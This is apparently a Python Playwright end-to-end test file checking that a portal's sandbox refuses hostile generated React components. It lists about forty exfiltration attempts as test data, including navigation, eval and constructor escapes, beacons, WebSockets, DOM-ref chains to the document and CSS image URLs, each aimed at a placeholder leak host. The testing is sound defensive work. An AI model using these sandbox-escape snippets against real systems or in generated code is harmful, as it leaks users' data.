"""Issue 15: the sandbox leaks nothing, not even one request. Each hostile component below is saved
as a template (as any generated component would be) and opened in the portal in real Chromium.
Every one must fail closed: the portal shows why it was refused, and neither the portal's own
server nor a second loopback listener (standing in for "elsewhere") sees a single request from it.
docs/sandbox.md lists the mechanism behind each case."""

from __future__ import annotations

import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, expect

from e2e.helpers import UI_TIMEOUT_MS, Api, sandbox, sign_in_page, unique
from vizorch_site.testing import LiveServer

pytestmark = pytest.mark.e2e

LOG_TIMEOUT_S = 30.0
# After the refusal shows, how long a late attempt (a timer, a refresh) gets to reach a listener.
GRACE_S = 1.0


class Listener(ThreadingHTTPServer):
    """A loopback HTTP server that records every request it gets: "elsewhere" for the tests."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _ListenerHandler)
        self.seen: list[str] = []

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _ListenerHandler(BaseHTTPRequestHandler):
    server: Listener

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _record(self) -> None:
        self.server.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"<html><body>GOT</body></html>")

    do_GET = do_POST = do_HEAD = do_OPTIONS = _record


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, name="leak-listener", daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(timeout=10)


@pytest.fixture(scope="module")
def analyst_api(live_server: LiveServer) -> Iterator[Api]:
    api = Api(live_server.url, live_server.api_token("analyst"))
    yield api
    api.close()


@pytest.fixture(scope="module")
def real_run(analyst_api: Api) -> dict[str, Any]:
    """One real run, whose data every hostile template reads."""
    answer = analyst_api.chat("Show total sales by region")
    assert answer.run["status"] == "succeeded", answer.run
    return answer.run


@pytest.fixture(scope="module")
def portal(browser: Browser, live_server: LiveServer) -> Iterator[BrowserContext]:
    """One signed-in browser context for the whole module; each case opens its own page."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    sign_in_page(context, live_server, "analyst").close()
    yield context
    context.close()


@dataclass(frozen=True)
class Hostile:
    """A component that tries to get data out. LEAK is a URL on the listener, SAME a URL on the
    portal's own server, MARKER a value unique to the case; `click` is text the user clicks
    once the component is on screen; `refusal` is what the portal must say."""

    code: str
    refusal: str
    click: str | None = None


def _effect(body: str, markup: str = "<p>hostile</p>") -> str:
    """A component that runs `body` once it is mounted."""
    return f"""import React, {{ useEffect }} from "react";
export default function Viz({{ data, params }}) {{
  useEffect(() => {{
    const secret = JSON.stringify(data.rows) + "MARKER";
    {body}
  }}, []);
  return {markup};
}}
"""


def _render(body: str) -> str:
    """A component whose render returns `body` (JSX)."""
    return f"""import React, {{ useRef, useEffect }} from "react";
export default function Viz({{ data, params }}) {{
  const secret = encodeURIComponent(JSON.stringify(data.rows)) + "MARKER";
  return {body};
}}
"""


def _with_ref(body: str) -> str:
    """A component that gets a DOM element through a ref and runs `body` with it as `el`."""
    return f"""import React, {{ useRef, useEffect }} from "react";
export default function Viz({{ data, params }}) {{
  const ref = useRef(null);
  useEffect(() => {{
    const el = ref.current;
    const secret = JSON.stringify(data.rows) + "MARKER";
    {body}
  }}, []);
  return <div ref={{ref}}>hostile</div>;
}}
"""


NOT_GIVEN = "Refused by the sandbox: components cannot use `{}`"
CSP = "Refused by the sandbox: the frame's policy blocked a request ({}"

HOSTILE: dict[str, Hostile] = {
    # Navigating the frame, every spelling of it.
    "location_href": Hostile(
        _effect('location.href = "LEAK?d=" + secret;'), NOT_GIVEN.format("location")
    ),
    "window_location": Hostile(
        _effect('window.location = "LEAK?d=" + secret;'), NOT_GIVEN.format("window")
    ),
    "document_location": Hostile(
        _effect('document.location = "LEAK?d=" + secret;'), NOT_GIVEN.format("document")
    ),
    "location_assign": Hostile(
        _effect('location.assign("LEAK?d=" + secret);'), NOT_GIVEN.format("location")
    ),
    "location_replace_via_globalthis": Hostile(
        _effect('globalThis.location.replace("LEAK?d=" + secret);'),
        NOT_GIVEN.format("location"),
    ),
    "top_location": Hostile(_effect('top.location = "LEAK?d=" + secret;'), NOT_GIVEN.format("top")),
    "location_at_module_top": Hostile(
        'location.href = "LEAK?d=MARKER";\nexport default function Viz() { return null; }',
        NOT_GIVEN.format("location"),
    ),
    "link_clicked": Hostile(
        _render('<a href={"LEAK?d=" + secret}>open the report</a>'),
        "was not followed: the sandbox never navigates",
        click="open the report",
    ),
    "svg_link_clicked": Hostile(
        _render(
            '<svg width="300" height="60"><a xlinkHref={"LEAK?d=" + secret}>'
            '<text x="10" y="30">open the svg link</text></a></svg>'
        ),
        "was not followed: the sandbox never navigates",
        click="open the svg link",
    ),
    "meta_refresh_via_inner_html": Hostile(
        _render(
            "<div dangerouslySetInnerHTML={{ __html: "
            "'<meta http-equiv=\"refresh\" content=\"0;url=LEAK?d=' + secret + '\">' }} />"
        ),
        "Refused by the sandbox: components may not set `dangerouslySetInnerHTML`",
    ),
    "meta_refresh_element": Hostile(
        _render('<meta httpEquiv="refresh" content={"0;url=LEAK?d=" + secret} />'),
        "Refused by the sandbox: components may not render <meta> elements",
    ),
    "base_href": Hostile(
        _render('<div><base href="LEAK/" /><a href="x">relative</a></div>'),
        "Refused by the sandbox: components may not render <base> elements",
    ),
    "iframe": Hostile(
        _render('<iframe src={"LEAK?d=" + secret} />'),
        "Refused by the sandbox: components may not render <iframe> elements",
    ),
    "form_submit": Hostile(
        _render('<form action="LEAK" method="get"><input name="d" value={secret} /></form>'),
        "Refused by the sandbox: components may not render <form> elements",
    ),
    # Escaping the compartment to the frame's real globals.
    "constructor_constructor": Hostile(
        _effect(
            'const g = ({}).constructor.constructor("return this")();'
            ' g.location.href = "LEAK?d=" + secret;'
        ),
        "Function.prototype.constructor is not a valid constructor",
    ),
    "function_return_window": Hostile(
        _effect('Function("return window")().location.href = "LEAK?d=" + secret;'),
        NOT_GIVEN.format("window"),
    ),
    "indirect_eval": Hostile(
        _effect('(0, eval)("document").location = "LEAK?d=" + secret;'),
        NOT_GIVEN.format("document"),
    ),
    "set_timeout_string": Hostile(
        _effect('setTimeout("location.href = \\"LEAK?d=MARKER\\"", 0);'),
        "Refused by the sandbox: setTimeout needs a function; the sandbox never evaluates strings",
    ),
    "dynamic_import": Hostile(
        _effect('import("LEAK/module.js?d=" + secret).then((m) => m.default);'),
        'Refused by the sandbox: there is no module "LEAK/module.js',
    ),
    "react_dom_import": Hostile(
        'import { createPortal } from "react-dom";\n'
        "export default function Viz() { return createPortal(<p>x</p>, null); }",
        'Refused by the sandbox: there is no module "react-dom"',
    ),
    "react_internals": Hostile(
        _effect(
            "const owner = React.__SECRET_INTERNALS_DO_NOT_USE_OR_YOU_WILL_BE_FIRED"
            ".ReactCurrentOwner.current;"
        ),
        "Cannot read properties of undefined (reading 'ReactCurrentOwner')",
    ),
    "prototype_poisoning": Hostile(
        _effect('Array.prototype.map = function () { location.href = "LEAK"; return []; };'),
        "Cannot assign to read only property 'map'",
    ),
    # Other ways out: workers, beacons, popups, cookies, messages to the portal.
    "worker": Hostile(
        _effect('new Worker("LEAK/worker.js?d=" + secret);'), NOT_GIVEN.format("Worker")
    ),
    "send_beacon": Hostile(
        _effect('navigator.sendBeacon("LEAK", secret);'), NOT_GIVEN.format("navigator")
    ),
    "window_open": Hostile(_effect('open("LEAK?d=" + secret);'), NOT_GIVEN.format("open")),
    "document_cookie": Hostile(
        _effect("const c = document.cookie; secret.length;"), NOT_GIVEN.format("document")
    ),
    "xhr": Hostile(
        _effect('const x = new XMLHttpRequest(); x.open("GET", "SAME?d=" + secret); x.send();'),
        NOT_GIVEN.format("XMLHttpRequest"),
    ),
    "websocket": Hostile(
        _effect('new WebSocket("ws://127.0.0.1:1/?d=" + secret);'), NOT_GIVEN.format("WebSocket")
    ),
    "forged_parent_message": Hostile(
        _effect(
            'parent.postMessage({ channel: "vizorch-sandbox/1", type: "error", renderId: 1,'
            ' phase: "data", message: "forged LEAK" }, "*");'
        ),
        NOT_GIVEN.format("parent"),
    ),
    # The DOM the component is given: refs and events lead nowhere.
    "ref_owner_document": Hostile(
        _with_ref('el.ownerDocument.location.href = "LEAK?d=" + secret;'),
        "Refused by the sandbox: components may not use `ownerDocument` of a <div>",
    ),
    "ref_parent_chain_to_document": Hostile(
        _with_ref(
            "let node = el; while (node.parentNode) node = node.parentNode;"
            ' node.defaultView.location = "LEAK?d=" + secret;'
        ),
        "Refused by the sandbox: components may not use `defaultView` of a <html>",
    ),
    "event_view_on_click": Hostile(
        _render(
            '<button onClick={(e) => { e.view.location = "LEAK?d=" + secret; }}>press me</button>'
        ),
        "Refused by the sandbox: components may not use `view` of an event",
        click="press me",
    ),
    "event_target_owner_document": Hostile(
        _render(
            "<button onClick={(e) => { e.nativeEvent.target.ownerDocument.location ="
            ' "LEAK?d=" + secret; }}>press the native event</button>'
        ),
        "Refused by the sandbox: components may not use `ownerDocument` of a <button>",
        click="press the native event",
    ),
    "forged_element_with_raw_ref": Hostile(
        """import React, { useRef, useEffect } from "react";
export default function Viz({ data }) {
  const ref = useRef(null);
  useEffect(() => { ref.current.ownerDocument.location.href = "LEAK?d=MARKER"; }, []);
  const forged = { $$typeof: Symbol.for("react.element"), type: "div", key: null, ref };
  return { ...forged, props: {}, _owner: null };
}
""",
        "Refused by the sandbox: the component passed an element it did not create",
    ),
    "class_component_fiber": Hostile(
        """import React from "react";
function Sneaky() {}
Sneaky.prototype.isReactComponent = {};
Sneaky.prototype.render = function () {
  this._reactInternals.return.stateNode.ownerDocument.location.href = "LEAK?d=MARKER";
  return null;
};
export default function Viz() { return <Sneaky />; }
""",
        "Refused by the sandbox: class components are not supported",
    ),
    # Loads the frame's policy stops before any request is made.
    "css_url_inline_style": Hostile(
        _render(
            '<div style={{ height: 50, backgroundImage: "url(LEAK/bg.png?d=" + secret + ")" }} />'
        ),
        CSP.format("img-src"),
    ),
    "css_url_to_own_api": Hostile(
        _render('<div style={{ height: 50, backgroundImage: "url(SAME/bg?d=" + secret + ")" }} />'),
        CSP.format("img-src"),
    ),
    "img_srcset": Hostile(
        _render('<img alt="" srcSet={"LEAK/a.png?d=" + secret + " 1x"} />'), CSP.format("img-src")
    ),
    "img_own_api": Hostile(
        _render('<img alt="" src={"SAME?d=" + secret} />'), CSP.format("img-src")
    ),
    "svg_image": Hostile(
        _render('<svg width="50" height="50"><image href={"LEAK/i.png?d=" + secret} /></svg>'),
        CSP.format("img-src"),
    ),
    "video_src": Hostile(
        _render('<video src={"LEAK/v.mp4?d=" + secret} autoPlay muted />'), CSP.format("media-src")
    ),
    "svg_use_external": Hostile(
        _render('<svg width="50" height="50"><use href={"SAME/s.svg?d=" + secret + "#a"} /></svg>'),
        "Refused by the sandbox: an SVG <use> may only refer to an element of this chart",
    ),
}


def _sandbox_requests(requests: list[Request]) -> list[str]:
    """Requests made in the sandbox frame beyond its own page and static files. (The browser
    reports a load its CSP stopped as a request that failed with "csp"; none of it was sent.)"""
    out = []
    for request in requests:
        if request.failure == "csp":
            continue
        try:
            in_portal = request.frame.parent_frame is None
        except Exception:  # a navigation of a frame that is gone: not the portal's own
            in_portal = False
        path = "/" + request.url.split("://", 1)[-1].partition("/")[2]
        if not in_portal and not path.startswith(("/sandbox/", "/static/")):
            out.append(f"{request.url} ({request.failure})")
    return out


def _wait_for_log(server: LiveServer, text: str) -> str:
    deadline = time.monotonic() + LOG_TIMEOUT_S
    log = server.log()
    while text not in log and time.monotonic() < deadline:
        time.sleep(0.2)
        log = server.log()
    assert text in log, f"the server log never showed {text!r}"
    return log


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_component_is_refused_and_sends_nothing(
    case: str,
    live_server: LiveServer,
    listener: Listener,
    analyst_api: Api,
    real_run: dict[str, Any],
    portal: BrowserContext,
) -> None:
    hostile = HOSTILE[case]
    marker = uuid.uuid4().hex
    leak = f"{listener.origin}/leak/{marker}"
    same = f"{live_server.url}/api/leak/{marker}"
    code = hostile.code.replace("LEAK", leak).replace("SAME", same).replace("MARKER", marker)
    template = analyst_api.create_template(
        {
            "title": unique(f"Hostile {case}"),
            "prompt": f"hostile component: {case}",
            "generated_sql": real_run["generated_sql"],
            "ui_code": code,
            "parameters": real_run["parameters"] or {},
            "data_source": "duckdb",
            "data_url": real_run["data_url"],
        }
    )
    seen_before = len(listener.seen)

    page: Page = portal.new_page()
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    try:
        page.goto(f"{live_server.url}/app/templates/{template['id']}")
        expect(page.get_by_test_id("template-heading")).to_contain_text(
            template["title"], timeout=UI_TIMEOUT_MS
        )
        if hostile.click:
            sandbox(page).get_by_text(hostile.click).click(timeout=UI_TIMEOUT_MS)

        # The portal says why the component was refused.
        error = page.get_by_test_id("render-error")
        expected = hostile.refusal.replace("LEAK", leak)
        expect(error).to_contain_text(expected, timeout=UI_TIMEOUT_MS)
        time.sleep(GRACE_S)

        # Nothing reached "elsewhere", nor our own server, nor left the frame in the browser.
        assert listener.seen[seen_before:] == []
        assert _sandbox_requests(requests) == []
        assert [r.url for r in requests if marker in r.url and r.failure != "csp"] == []
        log = _wait_for_log(live_server, f"GET /api/templates/{template['id']}")
        assert marker not in log
        # The frame is still the sandbox page, and the portal page is still the portal.
        assert page.url.endswith(f"/app/templates/{template['id']}")
        frame = page.frame_locator("[data-testid=sandbox-frame]")
        expect(frame.get_by_text("GOT")).to_have_count(0)
    finally:
        page.close()
